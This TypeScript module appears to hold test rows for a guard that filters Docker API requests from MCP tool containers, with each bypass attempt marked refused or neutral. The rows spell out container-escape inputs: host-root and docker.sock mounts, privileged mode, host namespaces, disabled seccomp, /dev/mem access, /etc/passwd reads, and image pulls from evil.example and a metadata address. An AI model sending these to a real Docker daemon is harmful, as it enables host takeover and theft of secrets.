/** The second half of the ways around: fields of a create request, reads, and every other endpoint. */
import type { Row } from './bypass-rows.js';
import { create, request, tool } from './stand.js';

const host = (extra: Record<string, unknown>): string => create(tool({ HostConfig: extra }));
const refused = (name: string, send: string): Row => ({ name, send, outcome: 'refused' });
const neutral = (name: string, send: string): Row => ({ name, send, outcome: 'neutral' });
const endpoint = (extra: Record<string, unknown>): string =>
  create(tool({ NetworkingConfig: { EndpointsConfig: { tools: extra } } }));
const image = (Image: string, extra: Record<string, unknown> = {}): string => create(tool({ Image, ...extra }));

const pinned = (Image: string): string => image(Image, { Labels: { 'docker-mcp-name': 'pinned' } });

const ROOT = { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } };

const REFUSED_HOST_CONFIGS: readonly (readonly [name: string, fields: Record<string, unknown>])[] = [
  [
    'F1 a volume that is the root',
    { Mounts: [{ Type: 'volume', Target: '/h', VolumeOptions: { DriverConfig: ROOT } }] },
  ],
  [
    'F1 a volume over NFS',
    {
      Mounts: [
        { Type: 'volume', Target: '/h', VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'nfs' } } } },
      ],
    },
  ],
  ['F2 the volume of another service', { Binds: ['v:/h'] }],
  ['F2 the volume of another server', { Binds: ['claude-memory:/h'] }],
  [
    'F2 a folder of a volume',
    { Mounts: [{ Type: 'volume', Source: 'claude-memory', Target: '/app/dist', VolumeOptions: { Subpath: '../x' } }] },
  ],
  ['F3 the root', { Binds: ['/:/h'] }],
  ['F3 dots', { Binds: ['/tmp/../:/h'] }],
  ['F3 dots out of a listed folder', { Binds: ['/srv/project/../:/h'] }],
  ['F3 the socket by a process', { Binds: ['/proc/1/root/var/run/docker.sock:/s'] }],
  ['F3 shared propagation', { Binds: ['/:/h:rshared'] }],
  ['F3 a link in a listed folder', { Binds: ['/srv/project/link:/y'] }],
  ['F3 two slashes', { Binds: ['//srv/project:/y'] }],
  ['F3 a drive', { Binds: ['C:\\x:/y'] }],
  ['F3 Docker Desktop', { Binds: ['/host_mnt/c:/y'] }],
  ['F3 the host of Docker Desktop', { Binds: ['/run/desktop/mnt/host/c:/y'] }],
  ['F3 a relative path', { Binds: ['./x:/y'] }],
  ['F3 relabelling', { Binds: ['claude-memory:/app/dist:ro,Z'] }],
  ['F3 an anonymous volume', { Binds: ['/h'] }],
  [
    'F3 the socket as a mount',
    { Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Target: '/var/run/docker.sock' }] },
  ],
  ['F3 a pipe', { Mounts: [{ Type: 'npipe', Source: '\\\\.\\pipe\\docker_engine', Target: '/p' }] }],
  ['F3 an image as a mount', { Mounts: [{ Type: 'image', Source: 'x', Target: '/p' }] }],
  ['F4 the volumes of a container', { VolumesFrom: ['ops-controller'] }],
  ['F4 a volume driver', { VolumeDriver: 'local' }],
  ['F5 the network of the host', { NetworkMode: 'host' }],
  ['F5 HOST', { NetworkMode: 'HOST' }],
  ['F5 the network of a container', { NetworkMode: 'container:abc' }],
  ['F5 a namespace by its path', { NetworkMode: 'ns:/proc/1/ns/net' }],
  ['F7 the processes of the host', { PidMode: 'host' }],
  ['F7 the processes of a container', { PidMode: 'container:abc' }],
  ...['PidMode', 'IpcMode', 'UTSMode', 'UsernsMode', 'CgroupnsMode'].map(
    (field) => [`F7 ${field} of a container`, { [field]: 'container:ops-controller' }] as const,
  ),
  ['F7 IPC', { IpcMode: 'host' }],
  ['F7 shareable IPC', { IpcMode: 'shareable' }],
  ['F7 UTS', { UTSMode: 'host' }],
  ['F7 users', { UsernsMode: 'host' }],
  ['F7 control groups', { CgroupnsMode: 'host' }],
  ['F7 the control group of a container', { Cgroup: 'container:x' }],
  ['F7 a parent control group', { CgroupParent: '/' }],
  ['F8 no seccomp', { SecurityOpt: ['seccomp=unconfined'] }],
  ['F8 seccomp inline', { SecurityOpt: ['seccomp={"defaultAction":"SCMP_ACT_ALLOW"}'] }],
  ['F8 no AppArmor', { SecurityOpt: ['apparmor=unconfined'] }],
  ['F8 no labels', { SecurityOpt: ['label=disable'] }],
  ['F8 a bare word', { SecurityOpt: ['disable'] }],
  ['F8 false after true', { SecurityOpt: ['no-new-privileges', 'no-new-privileges:false'] }],
  ['F8 control groups to write', { SecurityOpt: ['writable-cgroups'] }],
  ['F8 no masks', { MaskedPaths: [] }],
  ['F8 no read-only paths', { ReadonlyPaths: [] }],
  ['F9 all capabilities', { CapAdd: ['all'] }],
  ['F9 raw sockets', { CapAdd: ['NET_RAW'], CapDrop: ['ALL'] }],
  ['F9 a capability by its long name', { CapAdd: ['CAP_sys_admin'] }],
  ['F10 a device', { Devices: [{ PathOnHost: '/dev/mem', PathInContainer: '/dev/mem', CgroupPermissions: 'rwm' }] }],
  ['F10 all devices', { DeviceCgroupRules: ['a *:* rwm'] }],
  ['F10 a device request', { DeviceRequests: [{ Driver: 'cdi', DeviceIDs: ['vendor.com/device=all'] }] }],
  ['F10 a runtime', { Runtime: 'io.containerd.runc.v2' }],
  ['F10 a runtime of a plugin', { Runtime: 'x.y.v1' }],
  ['F10 a runtime by its path', { Runtime: '/usr/bin/x' }],
  ['F10 a device of a driver', { DeviceRequests: [{ Driver: 'nvidia', Count: -1, Capabilities: [['gpu']] }] }],
  ['F10 annotations', { Annotations: { a: 'b' } }],
  ['F10 a kernel parameter', { Sysctls: { 'net.ipv4.conf.all.route_localnet': '1' } }],
  ['F10 a group', { GroupAdd: ['0'] }],
  ['F11 syslog', { LogConfig: { Type: 'syslog', Config: { 'syslog-address': 'udp://1.2.3.4:514' } } }],
  ...['gelf', 'fluentd', 'splunk', 'awslogs', 'gcplogs', 'journald', 'local', 'none'].map(
    (Type) => [`F11 ${Type}`, { LogConfig: { Type, Config: {} } }] as const,
  ),
  ['F11 json-file', { LogConfig: { Type: 'json-file', Config: {} } }],
  ['F11 options without a driver', { LogConfig: { Type: '', Config: { 'syslog-address': 'udp://1.2.3.4:514' } } }],
  ['F12 a published port', { PortBindings: { '80/tcp': [{ HostPort: '80' }] } }],
  ['F12 all ports', { PublishAllPorts: true }],
  ['F12 a restart', { RestartPolicy: { Name: 'always', MaximumRetryCount: 0 } }],
  ['F12 limits of the process', { Ulimits: [{ Name: 'nofile', Soft: 1, Hard: 1_000_000 }] }],
  ['F12 a tmpfs', { Tmpfs: { '/t': 'exec,dev,suid,size=1t' } }],
  ['F12 options of a tmpfs', { Mounts: [{ Type: 'tmpfs', Target: '/t', TmpfsOptions: { Options: [['exec']] } }] }],
  ['F12 a priority in the processor', { CpuShares: 1_000_000 }],
  ['F12 no end by the kernel', { OomKillDisable: true }],
  ['F12 options of the storage', { StorageOpt: { size: '1T' } }],
  ['privileged', { Privileged: true }],
  ['a negative limit', { Memory: -1 }],
  ['an entry of the hosts file', { ExtraHosts: ['egress-proxy:1.2.3.4'] }],
  ['a link', { Links: ['ops-controller:x'] }],
  ['a file for the id', { ContainerIDFile: '/etc/x' }],
];

const NEUTRAL_HOST_CONFIGS: readonly (readonly [name: string, fields: Record<string, unknown>])[] = [
  ['F5 the default network', { NetworkMode: 'default' }],
  ['F5 the bridge', { NetworkMode: 'bridge' }],
  ['F5 another network by its name', { NetworkMode: 'backend' }],
  ['F5 another network by its id', { NetworkMode: 'b1d1383504df' }],
  ['F12 no OOM', { OomScoreAdj: -1000 }],
  ['F12 no limit of processes', { PidsLimit: -1 }],
  ['F12 no limit of memory', { Memory: 0, MemorySwap: -1 }],
  ['F12 a terabyte of shared memory', { ShmSize: 1024 ** 4 }],
  ['DNS of its own', { Dns: ['8.8.8.8'], DnsSearch: ['corp.example'], DnsOptions: ['ndots:5'] }],
];

export const FIELD_ROWS: readonly Row[] = [
  ...REFUSED_HOST_CONFIGS.map(([name, fields]) => refused(name, host(fields))),
  ...NEUTRAL_HOST_CONFIGS.map(([name, fields]) => neutral(name, host(fields))),
  neutral('F5 two networks', create(tool({ NetworkingConfig: { EndpointsConfig: { tools: {}, bridge: {} } } }))),
  refused('F5 a network by its id in the endpoint', endpoint({ NetworkID: 'b1d1383504df' })),
  refused("F5 the sidecar's address", endpoint({ IPAMConfig: { IPv4Address: '172.31.250.250' } })),
  refused("F5 the sidecar's name as an alias", endpoint({ Aliases: ['egress-proxy'] })),
  refused('F5 a MAC address', endpoint({ MacAddress: '02:42:ac:1f:fa:fa' })),
  refused('F5 a legacy MAC address', create(tool({ MacAddress: '02:42:ac:1f:fa:fa' }))),
  refused(
    'F5 kernel parameters of an endpoint',
    endpoint({ DriverOpts: { 'com.docker.network.endpoint.sysctls': 'x=1' } }),
  ),
  neutral("F6 the sidecar's name as a host name", create(tool({ Hostname: 'egress-proxy', Domainname: 'x' }))),
  neutral("F6 the sidecar's name as a name", create(tool(), 'POST /v1.45/containers/create?name=egress-proxy')),
  neutral("F6 the gateway's name as a name", create(tool(), 'POST /v1.45/containers/create?name=mcp-gateway-tools')),
  refused('F10 a platform', create(tool(), 'POST /v1.45/containers/create?platform=windows%2Famd64')),
  refused('F12 a volume of its own', create(tool({ Volumes: { '/v': {} } }))),
  refused('F12 a check that runs for ever', create(tool({ Healthcheck: { Test: ['CMD', 'x'], Interval: 1 } }))),
  neutral(
    'F13 labels that other programs act on',
    create(
      tool({
        Labels: {
          'traefik.enable': 'true',
          'com.docker.compose.project': 'ai-toolkit',
          'ofelia.job-exec.x.command': 'id',
          'io.mcp-egress-proxy.server': 'github',
          'io.mcp-egress-proxy.guard': 'other',
        },
      }),
    ),
  ),
  neutral(
    'F14 proxy variables',
    create(
      tool({
        Env: [
          'HTTP_PROXY=direct',
          'no_proxy=*',
          'Https_Proxy=',
          'HTTP_PROXY',
          'NODE_USE_ENV_PROXY=0',
          'ALL_PROXY=socks5://1.2.3.4',
          'ftp_proxy=x',
        ],
      }),
    ),
  ),
  refused('F14 a name with a space', create(tool({ Env: ['A B=x'] }))),
  refused('F14 257 variables', create(tool({ Env: Array.from({ length: 257 }, (_, i) => `A${i}=x`) }))),
  refused('F15 an image id', image('sha256:b1d1383504df'.padEnd(71, '0'))),
  refused('F15 a short image id', image('b1d1383504df')),
  refused('F15 an image of the stack', image('ai-toolkit-ops-controller')),
  refused('F15 capitals', image('MCP/fetch')),
  refused('F15 a port', image('docker.io:443/mcp/x')),
  refused('F15 dots', image('docker.io/mcp/../x')),
  refused('F15 a longer path', image('docker.io/mcp/x/y')),
  refused('F15 another spelling of the registry', image('index.docker.io/mcp/x')),
  refused('F15 a tag where a digest is listed', pinned('pin/pinned:latest')),
  refused('F15 no tag where a digest is listed', pinned('pin/pinned')),
  refused('F15 another digest', pinned(`pin/pinned@sha256:${'b'.repeat(64)}`)),
  refused('F15 the digest in capitals', pinned(`pin/pinned@SHA256:${'a'.repeat(64)}`)),
  refused('F15 the digest of another name', pinned(`mcp/fetch@sha256:${'a'.repeat(64)}`)),
  refused('F15 a name that is an id', image('a'.repeat(64))),
  refused('F15 a space', image('mcp/fetch ')),
  refused('F15 no image', image('')),
  refused(
    'F16 the label of a server with another image',
    image('mcp/fetch', { Labels: { 'docker-mcp-name': 'github' } }),
  ),
  neutral('F16 an empty label', create(tool({ Labels: { 'docker-mcp-name': '' } }))),
  refused('F16 a label of 10 KB', create(tool({ Labels: { 'docker-mcp-name': 'x'.repeat(10_000) } }))),
  refused('F16 a label with a line end', create(tool({ Labels: { 'docker-mcp-name': 'a\nb' } }))),
  refused('F16 a label that is a number', create(tool({ Labels: { 'docker-mcp-name': 1 } }))),
  refused('an entry point', create(tool({ Entrypoint: ['sh'] }))),
  refused('a network that is off', create(tool({ NetworkDisabled: true }))),
  refused('a user with a path', create(tool({ User: '../etc' }))),
  refused('a relative folder', create(tool({ WorkingDir: '../x' }))),
];

const OTHER = 'c'.repeat(64);
const GETS = [
  ...[`/containers/${OTHER}/archive?path=/etc/passwd`, `/containers/${OTHER}/export`, '/images/get?names=x'].map(
    (path) => `GET /v1.45${path}`,
  ),
  `GET /v1.45/containers/${OTHER}/attach/ws?stream=1&stdin=1`,
  ...['json', 'logs?stdout=1', 'top', 'stats', 'changes'].map((word) => `GET /v1.45/containers/${OTHER}/${word}`),
  ...[
    '/containers/json',
    '/events',
    '/info',
    '/networks',
    '/networks/backend',
    '/volumes',
    '/system/df',
    '/volumes/other',
  ].map((path) => `GET /v1.45${path}`),
  ...['/distribution/127.0.0.1:1/x/json', '/images/search?term=a', '/plugins/privileges?remote=a', '/images/json'].map(
    (path) => `GET /v1.45${path}`,
  ),
  `HEAD /v1.45/containers/${OTHER}/archive?path=/etc/passwd`,
  'GET /v1.45/images/ai-toolkit-ops-controller/json',
  'GET /v1.45/images/mcp/fetch/history',
  'GET /v1.45/secrets',
];

const POSTS = [
  ...['attach?stream=1', 'wait', 'stop', 'resize?h=1&w=1', 'start?checkpoint=a'].map(
    (word) => `POST /v1.45/containers/${OTHER}/${word}`,
  ),
  ...['ops-controller', 'ops-controller/x', `${OTHER.slice(0, 12)}`, `${OTHER.slice(0, 3)}`].map(
    (name) => `POST /v1.45/containers/${name}/start`,
  ),
  ...['exec', 'update', 'rename?name=x', 'restart', 'pause', 'unpause'].map(
    (word) => `POST /v1.45/containers/${OTHER}/${word}`,
  ),
  ...[
    '/exec/abc/start',
    '/containers/prune',
    '/commit?container=x',
    '/build?remote=http',
    '/build?networkmode=host',
  ].map((path) => `POST /v1.45${path}`),
  ...['/images/load', '/images/mcp/fetch/tag?repo=x', '/images/mcp/fetch/push', '/images/prune'].map(
    (path) => `POST /v1.45${path}`,
  ),
  ...['/images/create?fromSrc=http%3A%2F%2F169.254.169.254%2F', '/images/create?fromSrc=-', '/auth'].map(
    (path) => `POST /v1.45${path}`,
  ),
  '/images/create?fromImage=evil.example%2Fx&tag=y',
  ...['/networks/create', '/networks/tools/connect', '/networks/tools/disconnect', '/volumes/create', '/volumes/prune'],
  ...['/swarm/init', '/services/create', '/secrets/create', '/configs/create', '/plugins/pull?remote=x', '/session'],
  `/containers/${OTHER}/start?checkpoint-dir=%2F`,
  `/containers/${OTHER}/start`,
  `/containers/${OTHER}/kill?signal=KILL`,
].map((line) => (line.startsWith('POST') ? line : `POST /v1.45${line}`));

export const ENDPOINT_ROWS: readonly Row[] = [
  ...GETS.map((line) => refused(line.slice(0, 60), request(line))),
  ...POSTS.map((line) => refused(line.slice(0, 70), request(line))),
  refused('PUT archive', request(`PUT /v1.45/containers/${OTHER}/archive?path=/`, { body: 'x' })),
  ...['/images/mcp/fetch', '/volumes/claude-memory', '/networks/tools', `/containers/${OTHER}?force=1`].map((path) =>
    refused(`DELETE ${path.slice(0, 50)}`, request(`DELETE /v1.45${path}`)),
  ),
];
